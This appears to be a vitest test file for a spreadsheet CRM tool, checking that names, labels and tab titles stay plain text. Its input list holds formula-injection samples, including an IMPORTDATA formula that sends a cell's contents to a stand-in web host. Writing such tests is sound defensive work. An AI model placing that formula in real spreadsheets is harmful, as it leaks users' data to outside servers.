/** What a customer, a type or a manager is called in a CRM is shown as it is, and is never a formula, a number or a date. */
import { expect, test } from 'vitest';
import { type App, get, openApp } from './support/app.ts';
import { openTeam } from './support/board.ts';
import { champion, type LogRow, lost } from './support/log.ts';
import { readBy } from './support/namesakes.ts';
import { build } from './support/run.ts';
import { cellAt, columnOf, note, rowOf, sheet, sheetNames, type, values } from './support/tabs.ts';

const NAMES = [
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  '=IMPORTDATA("https://example.org/?"&A1)',
  '=1+1',
  '+1',
  '-1',
  '@x',
  "'x",
  "''quoted''",
  '1/2',
  '007',
  'TRUE',
  'ложь',
  '1e5',
  '12:30',
  '50%',
  '$5',
  '1 000',
  '2026-03-31',
  '31.03.2026',
  'Mar 5',
  '🙂 Ltd',
  'x'.repeat(300),
  'Call list – Champions',
  'Customer',
  '<b>bold</b>',
  '{1;2}',
  '—',
  '"',
];

test.each(['en_US', 'ru_RU'])('names and labels in %s', async (locale) => {
  const rows: LogRow[] = NAMES.flatMap((name, index) =>
    (index % 2 === 0 ? champion(name, 1000 - index) : lost(name, 1000 - index)).map((row) => [...row, name, name]),
  );
  const app = openApp({ rows, titles: ['Customer', 'Date', 'Amount', 'Type', 'Manager'], locale });
  const byTitle = readBy(app, {
    customer: ['Customer'],
    date: ['Date'],
    amount: ['Amount'],
    customerType: ['Type'],
    manager: ['Manager'],
  });
  // A `"` below a name may mean that name, which is asked about: here it does not.
  const reading = { ...byTitle.reading, answers: { ...byTitle.reading.answers, fillDown: false } };
  const settings = { ...byTitle, reading, lists: ['champions', 'promising', 'at-risk', 'lost'] };
  await build(app, settings);
  await build(app, settings);
  const [, customers, summary, champions] = app.host.engine.sheets();
  if (customers === undefined || summary === undefined || champions === undefined) throw new Error('tabs are missing');
  for (const tab of [customers, summary, champions]) {
    const formulas = tab.formulas({ row: 0, column: 0, ...tab.used() }).flat();
    expect(formulas.filter((formula) => formula !== '')).toEqual([]);
  }
  const rowsOf = new Map(values(customers).map((cells) => [cells[0], cells]));
  // A name without a letter or a digit stands for nobody; an apostrophe in front of a name only says that it is a text.
  const named = NAMES.filter((name) => !['—', '"'].includes(name));
  for (const name of named) {
    const shown = name.replace(/^'(?=.)/, '');
    const [first, , ...labels] = rowsOf.get(shown)?.slice(0, 4) ?? [];
    expect([first, ...labels]).toEqual([shown, name, name]);
  }
  const kinds = customers.read({ row: 1, column: 0, rows: named.length, columns: 1 }).map(([cell]) => cell?.kind);
  expect(new Set(kinds)).toEqual(new Set(['text']));
  const types = values(summary).map(([first]) => first);
  for (const name of named) expect(types).toContain(name);
});

test('a name with line breaks and stray blanks is one line', async () => {
  const app = openApp({ rows: [...champion('Ann\n\t Smith\u00a0'), ...lost('Bob')] });
  await build(app);
  expect(values(sheet(app, 'Customers')).map(([name]) => name)).toContain('Ann Smith');
});

test('bad values are listed as text, whatever they look like', async () => {
  const bad = ['=HYPERLINK("x";"y")', '@SUM(1)', "'31.02.2025", '+oops'];
  const rows: LogRow[] = [...champion('Ann'), ...bad.map((text): LogRow => ['Bob', text, 1])];
  const app = openApp({ rows: [...champion('Ann')] });
  rows.forEach((row, index) => {
    app.log.write({ row: index + 1, column: 0, rows: 1, columns: 3 }, [
      row.map((cell) =>
        typeof cell === 'number' ? { kind: 'number', value: cell } : { kind: 'text', value: cell ?? '' },
      ),
    ]);
  });
  await build(app);
  const tab = sheet(app, 'Data problems');
  expect(
    values(tab)
      .slice(3)
      .map((cells) => cells[3]),
  ).toEqual(bad);
  expect(tab.formulas({ row: 3, column: 3, rows: bad.length, columns: 1 }).flat()).toEqual(bad.map(() => ''));
});

test('an added column may have a hostile title, and a tab a hostile name', async () => {
  const app = openApp({ rows: champion('Ann') });
  await build(app);
  const tab = sheet(app, 'Call list – Champions');
  const column = tab.used().columns;
  tab.write(cellAt(2, column), [[{ kind: 'text', value: '=1+1' }]]);
  note(tab, 'Ann', '=1+1', "'=2+2");
  tab.rename(`it's; "quoted"`);
  type(app.log, 0, 5, `='it''s; "quoted"'!A4`);
  await build(app);
  await app.host.engine.settled();
  expect(columnOf(tab, '=1+1')).toBe(column);
  expect(values(tab)[rowOf(tab, 'Ann')]?.[column]).toBe("'=2+2");
  expect(app.log.read(cellAt(0, 5))[0]?.[0]?.value).toBe('Ann');
});

/** Formulas of a tab, and what they come to. */
function formulasIn(app: App, id: number): string[] {
  const tab = app.host.engine.sheet(id);
  return tab === null
    ? []
    : tab
        .formulas({ row: 0, column: 0, ...tab.used() })
        .flat()
        .filter((formula) => formula !== '');
}

test('segments may be called anything in the tab Settings', async () => {
  const app = openApp({ rows: [...champion('Ann'), ...lost('Bob')] });
  await get(app, 'createSettings');
  const settings = sheet(app, 'Settings');
  const names = ['=1+1', `🙂${'x'.repeat(48)}`, 'it\'s "A1":B2!', '{1}', "'"];
  settings.write(
    { row: 5, column: 1, rows: names.length, columns: 1 },
    names.map((value) => [{ kind: 'text', value }]),
  );
  const lists = ['champions', 'loyal', 'potential-loyalists', 'promising', 'recent'];
  for (let time = 0; time < 2; time++) await build(app, { ...app.settings, lists });
  expect(sheetNames(app).filter((name) => name.startsWith('Call list'))).toEqual(
    names.map((name) => `Call list – ${name}`),
  );
  expect(values(sheet(app, 'Customers')).find(([name]) => name === 'Ann')).toContain('=1+1');
  for (const { id, name } of app.host.engine.sheets()) {
    if (name !== 'Data problems') expect(formulasIn(app, id)).toEqual([]);
  }
});

test('managers, and the sheet of the log, may be called anything in the tabs of pay', async () => {
  const names = [...NAMES.filter((name) => name !== '—').slice(0, 25), `a${'🙂'.repeat(40)}`];
  const october = 46_296;
  const rows = names.map((name, index): LogRow => ['Acme', october + 1, 1000 * (index + 1), name]);
  const members = names.map((name) => ({ name, plan: 5000 }));
  const app = await openTeam({ rows, members, today: '2026-11-02', month: '2026-10' });
  app.log.rename(`it's "A1":B2! 'Заказы'`);
  const month = { month: '2026-10' };
  await get(app, 'buildSimulator');
  await get(app, 'buildBoard', month);
  await get(app, 'buildPayout', month);
  await get(app, 'startWeek', { goal: 10, prizes: [5], rollOver: false });
  await get(app, 'buildThanks');
  const shown = names.filter((_, index) => index % 4 === 0 || index > 23);
  for (const name of shown) await get(app, 'buildStatements', { ...month, members: [name] });
  await get(app, 'closeMonth', month);
  await app.host.engine.settled();
  for (const tab of app.host.engine.sheets()) {
    const broken = values(tab)
      .flat()
      .filter((value) => /^#(NAME|REF|VALUE|ERROR|N\/A|DIV)/.test(String(value)));
    expect(broken, tab.name).toEqual([]);
    const formulas = formulasIn(app, tab.id);
    expect(formulas.filter((formula) => names.some((name) => name.length > 2 && formula.startsWith(name)))).toEqual([]);
  }
  const paid = values(sheet(app, 'Payouts — October 2026')).map(([name]) => name);
  expect(paid).toEqual(expect.arrayContaining(names));
  const statements = sheetNames(app).filter((name) => name.startsWith('Statement'));
  expect(statements).toHaveLength(shown.length);
  expect(statements.filter((name) => /[\uD800-\uDBFF](?![\uDC00-\uDFFF])/.test(name))).toEqual([]);
});
